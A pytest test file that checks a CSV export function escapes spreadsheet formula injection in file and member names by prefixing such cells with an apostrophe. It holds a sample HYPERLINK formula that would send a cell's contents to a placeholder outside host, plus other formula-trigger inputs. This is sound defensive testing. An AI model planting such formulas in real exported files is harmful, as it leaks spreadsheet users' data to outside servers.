"""CSV files written from names (photos, members, manifest cells) are read by a spreadsheet as text: a cell
that starts as a formula does gets a "'" before it (fer_core.render.spreadsheet_cell)."""
from __future__ import annotations

import csv
import io

import pytest

from fer_core import render

LINK = '=HYPERLINK("http://example.org/?"&A2,"open").jpg'


@pytest.mark.parametrize("text", [LINK, "+1+2.jpg", "-2+3.jpg", "@SUM(1,2)", "\t=1", "\r=1", "\n=1"])
def test_a_text_that_starts_as_a_formula_does_is_written_as_text(text):
    assert render.spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["party.jpg", "Colin Powell", "a=b.jpg", "", -3.5, 0, None])
def test_anything_else_is_written_as_it_is(value):
    assert render.spreadsheet_cell(value) == value


def test_the_results_csv_holds_no_formula_from_a_file_or_member_name():
    rows = [{"source": LINK, "face": 1, "x": -3.0, "emotion": "happy", "identity": "@Ada"}]
    (row,) = csv.DictReader(io.StringIO(render.records_csv(rows).decode("utf-8")))
    assert row == {"source": "'" + LINK, "face": "1", "x": "-3.0", "emotion": "happy", "identity": "'@Ada"}
